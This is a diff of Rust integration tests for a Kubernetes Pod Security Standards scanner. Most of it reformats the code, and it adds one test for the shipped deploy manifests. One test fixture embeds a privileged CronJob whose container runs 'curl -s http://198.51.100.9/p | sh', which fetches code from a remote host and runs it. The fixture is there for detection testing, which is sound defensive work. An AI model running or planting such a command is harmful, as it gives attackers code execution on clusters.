@@ -73,8 +73,16 @@ fn pod_security_fixtures_conform_for_every_level_and_version() {
                     continue;
                 }
                 let out = scan(&[
-                    "--format", "jsonl", "--pss", level, "--pss-version", &version,
-                    "--min-severity", "info", "-q", dir.to_str().expect("path"),
+                    "--format",
+                    "jsonl",
+                    "--pss",
+                    level,
+                    "--pss-version",
+                    &version,
+                    "--min-severity",
+                    "info",
+                    "-q",
+                    dir.to_str().expect("path"),
                 ]);
                 assert!(
                     matches!(out.status.code(), Some(0 | 1)),
@@ -88,11 +96,23 @@ fn pod_security_fixtures_conform_for_every_level_and_version() {
                         continue;
                     }
                     let file = f["location"]["file"].as_str().unwrap_or_default();
-                    let name = Path::new(file).file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
-                    let check = f["check"].as_str().unwrap_or_default().rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
+                    let name = Path::new(file)
+                        .file_name()
+                        .map(|n| n.to_string_lossy().to_string())
+                        .unwrap_or_default();
+                    let check = f["check"]
+                        .as_str()
+                        .unwrap_or_default()
+                        .rsplit('.')
+                        .next()
+                        .unwrap_or_default()
+                        .to_ascii_lowercase();
                     pss_by_file.entry(name).or_default().push(check);
                 }
-                for entry in std::fs::read_dir(&dir).expect("fixture dir").filter_map(|e| e.ok()) {
+                for entry in std::fs::read_dir(&dir)
+                    .expect("fixture dir")
+                    .filter_map(|e| e.ok())
+                {
                     let name = entry.file_name().to_string_lossy().to_string();
                     if !name.ends_with(".yaml") {
                         continue;
@@ -109,12 +129,16 @@ fn pod_security_fixtures_conform_for_every_level_and_version() {
                         let overriding = match (level, want.as_str()) {
                             ("restricted", "hostpathvolumes") => "restrictedvolumes",
                             ("restricted", "capabilities_baseline") => "capabilities_restricted",
-                            ("restricted", "seccompprofile_baseline") => "seccompprofile_restricted",
+                            ("restricted", "seccompprofile_baseline") => {
+                                "seccompprofile_restricted"
+                            }
                             ("restricted", "procmount") => "procmount_restricted",
                             _ => "",
                         };
                         if !got.iter().any(|c| *c == want || *c == overriding) {
-                            failures.push(format!("{level}/{version}/fail/{name}: want {want}, got {got:?}"));
+                            failures.push(format!(
+                                "{level}/{version}/fail/{name}: want {want}, got {got:?}"
+                            ));
                         }
                     }
                 }
@@ -122,7 +146,12 @@ fn pod_security_fixtures_conform_for_every_level_and_version() {
         }
     }
     assert_eq!(checked, 4537, "fixture count changed");
-    assert!(failures.is_empty(), "{} of {checked} wrong:\n{}", failures.len(), failures.join("\n"));
+    assert!(
+        failures.is_empty(),
+        "{} of {checked} wrong:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
 }
 
 #[test]
@@ -139,14 +168,32 @@ fn sarif_output_is_valid_sarif_2_1_0() {
         "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: x\n  namespace: default\nspec:\n  schedule: '* * * * *'\n  successfulJobsHistoryLimit: 0\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          hostPID: true\n          restartPolicy: Never\n          containers:\n          - name: c\n            image: 10.0.0.5:5000/x\n            command: [sh, -c, 'curl -s http://198.51.100.9/p | sh']\n            securityContext:\n              privileged: true\n",
     )
     .expect("write");
-    let out = scan(&["--format", "sarif", "--pss", "restricted", "--min-severity", "info", "-q", manifest.to_str().expect("path")]);
+    let out = scan(&[
+        "--format",
+        "sarif",
+        "--pss",
+        "restricted",
+        "--min-severity",
+        "info",
+        "-q",
+        manifest.to_str().expect("path"),
+    ]);
     let sarif: Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
-    let errors: Vec<String> = validator.iter_errors(&sarif).map(|e| format!("{e} at {}", e.instance_path())).collect();
+    let errors: Vec<String> = validator
+        .iter_errors(&sarif)
+        .map(|e| format!("{e} at {}", e.instance_path()))
+        .collect();
     assert!(errors.is_empty(), "{}", errors.join("\n"));
     let results = sarif["runs"][0]["results"].as_array().expect("results");
     assert!(results.len() >= 5);
-    assert!(results.iter().all(|r| r["locations"][0]["physicalLocation"]["region"]["startLine"].as_u64().is_some_and(|l| l >= 1)));
-    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().expect("rules");
+    assert!(results.iter().all(|r| {
+        r["locations"][0]["physicalLocation"]["region"]["startLine"]
+            .as_u64()
+            .is_some_and(|l| l >= 1)
+    }));
+    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
+        .as_array()
+        .expect("rules");
     assert!(rules.iter().any(|r| r["id"] == "pss.restricted.privileged"));
     assert_eq!(out.status.code(), Some(0));
 }
@@ -164,14 +211,23 @@ fn bad_documents_are_reported_and_the_rest_judged() {
     let out = scan(&["--format", "jsonl", p]);
     assert_eq!(out.status.code(), Some(2));
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(stderr.contains(&format!("{p}:")), "errors name the file and line: {stderr}");
+    assert!(
+        stderr.contains(&format!("{p}:")),
+        "errors name the file and line: {stderr}"
+    );
     let found = findings(&out);
     let priv_finding = found
         .iter()
         .find(|f| f["check"] == "pss.baseline.privileged")
         .expect("the good document is still judged");
-    assert_eq!(priv_finding["location"]["line"], 22, "the line of `privileged: true`");
-    assert!(stderr.contains("Widget"), "unknown kinds are counted: {stderr}");
+    assert_eq!(
+        priv_finding["location"]["line"], 22,
+        "the line of `privileged: true`"
+    );
+    assert!(
+        stderr.contains("Widget"),
+        "unknown kinds are counted: {stderr}"
+    );
 }
 
 #[test]
@@ -180,6 +236,32 @@ fn fail_on_and_exit_codes() {
     let atomic = shared.join("corpus/atomic-t1053.007/cronjob.yaml");
     let a = atomic.to_str().expect("path");
     assert_eq!(scan(&["-q", "--fail-on", "low", a]).status.code(), Some(1));
-    assert_eq!(scan(&["-q", "--fail-on", "critical", a]).status.code(), Some(0));
-    assert_eq!(scan(&["-q", "--pss-version", "v9.x", a]).status.code(), Some(2));
+    assert_eq!(
+        scan(&["-q", "--fail-on", "critical", a]).status.code(),
+        Some(0)
+    );
+    assert_eq!(
+        scan(&["-q", "--pss-version", "v9.x", a]).status.code(),
+        Some(2)
+    );
+}
+
+#[test]
+fn shipped_deploy_manifests_pass_restricted() {
+    let deploy = repo().join("deploy");
+    let out = scan(&[
+        "-q",
+        "--pss",
+        "restricted",
+        "--fail-on",
+        "medium",
+        deploy.to_str().expect("path"),
+    ]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
 }
